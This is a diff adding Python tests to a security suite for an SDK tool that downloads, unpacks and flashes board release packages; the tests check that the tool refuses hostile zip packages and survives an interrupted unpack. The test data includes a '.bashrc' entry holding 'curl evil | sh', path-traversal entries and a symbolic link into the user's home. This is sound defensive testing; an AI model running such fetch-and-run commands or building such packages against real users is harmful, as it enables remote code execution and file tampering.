@@ -3,14 +3,20 @@ each scenario plays one attacker and shows that the attack fails and that
 the user is told why."""
 
 import glob
+import io
 import os
 import signal
+import stat
 import subprocess
 import time
 import unittest
+import zipfile
 
 from faults import fetch_failed
-from ostrelle_testbed.bed import RED, RESET, TLS_VERIFY, Bed, program_path, set_target, sign_in
+from flashing import board_in_download_mode
+from ostrelle_testbed.bed import (GREEN, RED, RESET, TLS_VERIFY, Bed, program_path, set_target,
+                                  setup_to_shell, sign_in)
+from ostrelle_testbed.release_files import release_package, sha256
 from release_packages import url_path
 
 INTERNAL = RED + b'Account verification internal error.' + RESET + b'\n'
@@ -150,6 +156,116 @@ class HostileLists(unittest.TestCase):
             self.assertEqual(s.wait(), 0)
             for raw in (b'\x1b]', b'\x07', b'\x1b[2J', b'\t'):
                 self.assertNotIn(raw, s.output)
+
+
+def with_entries(package, entries):
+    """package (zip bytes) with entries added: (name, data, mode), where a
+    mode with S_IFLNK makes a symbolic link to data."""
+    buf = io.BytesIO(package)
+    with zipfile.ZipFile(buf, 'a') as z:
+        for name, data, mode in entries:
+            info = zipfile.ZipInfo(name)
+            info.create_system = 3
+            info.external_attr = mode << 16
+            z.writestr(info, data)
+    return buf.getvalue()
+
+
+def writable_by_others(top):
+    """The files and directories below top (top included) that group or
+    others may write, symbolic links aside."""
+    found = []
+    for root, dirs, files in os.walk(top):
+        for path in [root] + [os.path.join(root, n) for n in files]:
+            st = os.lstat(path)
+            if not stat.S_ISLNK(st.st_mode) and st.st_mode & 0o022:
+                found.append(path)
+    return found
+
+
+class HostilePackages(unittest.TestCase):
+    def test_a_package_reaching_outside_its_release_is_refused_whole(self):
+        with Bed() as bed:
+            # The default target directory is HOME.
+            for name, text in (('.bashrc', 'my shell\n'), ('ostrelle_dir.txt', bed.home + '/ \n')):
+                with open(os.path.join(bed.home, name), 'w') as f:
+                    f.write(text)
+            pkg = with_entries(release_package('r1'), [
+                ('.bashrc', 'curl evil | sh\n', 0o100644),
+                ('ostrelle_dir.txt', '/tmp/evil \n', 0o100644),
+                # A later package would write through it into the user's files.
+                ('r1/cdt', bed.home, 0o120777),
+            ])
+            bed.put('kt5', 'r1.zip', pkg)
+            res = bed.call('sdk_make_sys', input=b'y\n', target=bed.home, product='kt5',
+                           platform=2, release='r1', checksum=sha256(pkg))
+            self.assertTrue(res.output.endswith(
+                RED + b"Refused package entry '.bashrc': it lies outside r1/" + RESET + b'\n' +
+                RED + b"Refused package entry 'ostrelle_dir.txt': it lies outside r1/" + RESET +
+                b'\n' + RED + b"Refused package entry 'r1/cdt': it is a symbolic link" + RESET +
+                b'\n' + RED + b'The package is refused: nothing of it is unpacked' + RESET +
+                b'\nRemoving refused package\nDownload resource failed. Try command 1 again.\n'),
+                res.output)
+            with open(os.path.join(bed.home, '.bashrc')) as f:
+                self.assertEqual(f.read(), 'my shell\n')
+            with open(os.path.join(bed.home, 'ostrelle_dir.txt')) as f:
+                self.assertEqual(f.read(), bed.home + '/ \n')
+            self.assertEqual(sorted(os.listdir(bed.home)), ['.bashrc', 'ostrelle_dir.txt'])
+
+    def test_an_unpack_ended_part_way_leaves_no_release_that_command_2_would_flash(self):
+        with Bed() as bed:
+            pkg = with_entries(release_package('r1', flashable='le'), [
+                ('r1/shared/', b'', 0o040777), ('r1/shared/notes.txt', 'n\n', 0o100666)])
+            bed.put('kt1', 'r1.zip', pkg)
+            bed.put_list('kt1', '_le_', ['r1 ' + sha256(pkg)])
+            board_in_download_mode(bed, boot_after_polls=1)
+            rel = os.path.join(bed.target, 'r1')
+            # Ctrl-C while unzip writes the system image: the program and
+            # its tools end at once.
+            fake = bed.install_fake('unzip', '''#!/usr/bin/python3
+import os, signal, sys, time
+args = sys.argv[1:]
+if '-o' in args:
+    ufs = os.path.join(args[args.index('-d') + 1], 'r1', 'full_build', 'ufs')
+    os.makedirs(ufs, exist_ok=True)
+    with open(os.path.join(ufs, 'system.img'), 'wb') as f:
+        f.write(b'the first megabytes of a syst')
+    os.killpg(os.getpgrp(), signal.SIGINT)
+    time.sleep(10)
+os.execv('/usr/bin/unzip', ['/usr/bin/unzip'] + args)
+''')
+            s = bed.spawn()
+            setup_to_shell(bed, s, product='1')
+            s.sendline('1')
+            s.expect("Enter 'y' to continue, 'q' to main menu: ")
+            s.sendline('y')
+            self.assertEqual(s.wait(), -signal.SIGINT)
+            self.assertFalse(os.path.exists(rel))
+            os.remove(fake)
+
+            s = bed.spawn()
+            setup_to_shell(bed, s, product='1')
+            s.sendline('2')
+            s.expect("Enter 'y' to continue, 'q' to main menu: ")
+            s.sendline('y')
+            s.expect(RED + b'Need to check ' + rel.encode() + b'/full_build/ufs/ or run command 1 '
+                     b'to download/regenerate image' + RESET)
+            self.assertEqual(bed.tool_log('fh_loader'), [])
+            s.sendline('1')
+            s.expect("Enter 'y' to continue, 'q' to main menu: ")
+            s.sendline('y')
+            s.expect(GREEN + b'Download LE resources ... Done' + RESET)
+            with open(os.path.join(rel, '.ostrelle-complete')) as f:
+                self.assertEqual(f.read(), sha256(pkg) + '\n')
+            self.assertEqual(writable_by_others(rel), [])
+            self.assertEqual(glob.glob(os.path.join(bed.target, '.ostrelle-unpack-*')), [])
+            s.sendline('2')
+            s.expect("Enter 'y' to continue, 'q' to main menu: ")
+            s.sendline('y')
+            s.expect('Robotics device is ready to use.', timeout=60)
+            s.expect('> ')
+            s.sendline('q')
+            self.assertEqual(s.wait(), 0)
 
 
 if __name__ == '__main__':
